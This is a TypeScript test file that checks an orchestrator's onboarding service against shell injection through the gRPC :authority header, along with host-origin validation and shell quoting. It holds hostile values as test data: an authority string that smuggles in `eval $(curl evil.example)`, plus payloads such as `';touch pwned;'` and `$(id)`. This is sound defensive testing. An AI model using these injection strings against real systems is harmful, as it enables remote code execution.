import { execFileSync } from 'node:child_process';
import { create } from '@bufbuild/protobuf';
import { Client, credentials } from '@grpc/grpc-js';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { siteOrigin } from '../../orchestrator-stub/site-origin.ts';
import {
  builtInTemplates,
  cloudInitTemplate,
  postMortemTemplate,
} from '../../orchestrator-stub/workflow/built-in.ts';
import { renderTemplate } from '../../orchestrator-stub/workflow/go-template/render.ts';
import {
  NonInteractiveOnboardingService,
  OnboardNodeStreamRequestSchema,
} from '../../protocol/generated/onboarding_pb.js';
import { openBidiStream } from '../../protocol/grpc-service.ts';
import { shellQuote } from '../../system/shell-quote.ts';
import { NODE, RunningStub } from '../orchestrator-stub/running-stub.ts';
import { storedDefinitions } from '../orchestrator-stub/seal/test-seal.ts';

let running: RunningStub;

beforeAll(async () => {
  running = await RunningStub.start({ port: 0, plainPort: false });
});
afterAll(() => running[Symbol.asyncDispose]());

const AUTHORITY = "x';eval$IFS$(curl$IFS'evil.example');'";

it('the :authority of an anonymous knock becomes no address in a workflow', async () => {
  await running.api('PUT', '/api/v1/profiles/edge', {
    json: { imageUrl: 'http://10.0.2.2/x.raw.gz', imageSha256: 'a'.repeat(64), osType: 'MUTABLE' },
  });
  await running.api('POST', '/api/v1/nodes', {
    json: { uuid: NODE.uuid, autoOnboard: true, profile: 'edge' },
  });
  const hostile = new Client(
    running.stub.urls.grpc.replace('127.0.0.1', 'localhost'),
    credentials.createSsl(Buffer.from(running.stub.ca)),
    { 'grpc.default_authority': AUTHORITY },
  );
  const call = openBidiStream(hostile, NonInteractiveOnboardingService.method.onboardNodeStream);
  const { promise, resolve } = Promise.withResolvers<unknown>();
  call.on('data', resolve);
  call.on('error', resolve);
  call.write(create(OnboardNodeStreamRequestSchema, NODE));
  await promise;
  call.end();
  hostile.close();
  await running.knock();
  const path = `/api/v1/workflows/workflow-${NODE.uuid}-g1`;
  await expect.poll(async () => (await running.api('GET', path)).status).toBe(200);
  const text = JSON.stringify(storedDefinitions(running.folder)[0]);
  expect(text).not.toContain('evil.example');
  expect(text).toMatch(/url='https:\/\/(127\.0\.0\.1|localhost):\d+\/api\/v1\/first-boot\//);
});

it.each([
  ['10.0.0.5:8443', 'https://10.0.0.5:8443'],
  ['A.edge.example:8443', 'https://a.edge.example:8443'],
  ['[2001:db8::1]:8443', 'https://[2001:db8::1]:8443'],
  ['localhost', 'https://localhost'],
  ['10.0.0.6:8443', 'own'],
  ['10.0.0.5:9999', 'own'],
  ['a.b.edge.example:8443', 'own'],
  ['evil.example:8443', 'own'],
  [AUTHORITY, 'own'],
  ['10.0.0.5:8443\n', 'own'],
  ['user@10.0.0.5:8443', 'own'],
  ['', 'own'],
])('called %j, the server is told as %s', (authority, origin) => {
  const names = ['10.0.0.5', '*.edge.example', '2001:DB8:0:0:0:0:0:1'];
  expect(siteOrigin({ names: () => names, ports: () => [8443], own: () => 'own' }, authority, 'https')).toBe(
    origin,
  );
});

it.each(["'", `';touch pwned;'`, '$(id)', '`id`', '"', '\\', '\n', 'a b', '', '\u202e', '\x1b[2J', '*'])(
  'a shell reads %j as it was',
  (text) => {
    expect(execFileSync('sh', ['-c', `printf %s ${shellQuote(text)}`]).toString()).toBe(text);
  },
);

it('no built-in template quotes for a shell with squote', () => {
  for (const text of [
    cloudInitTemplate(),
    postMortemTemplate().text,
    ...builtInTemplates().map(({ text }) => text),
  ])
    expect(text).not.toMatch(/\bsquote\b/);
  expect(renderTemplate('{{ .x | shellQuote }}', { x: `a'b` }, { name: 'x' })).toBe(`'a'\\''b'`);
});
